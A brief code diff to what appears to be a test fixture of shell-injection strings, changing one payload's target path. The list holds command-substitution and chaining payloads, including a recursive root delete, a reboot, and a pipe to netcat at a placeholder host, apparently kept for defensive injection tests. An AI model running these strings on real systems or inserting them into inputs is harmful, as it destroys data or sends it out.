@@ -126,7 +126,7 @@ export const injections: Readonly<Record<string, readonly string[]>> = {
     '=\u0000',
   ],
   shell: [
-    '$(touch /tmp/hacked)',
+    '$(touch hacked)',
     '`reboot`',
     '; rm -rf /',
     '| nc evil.test 1',
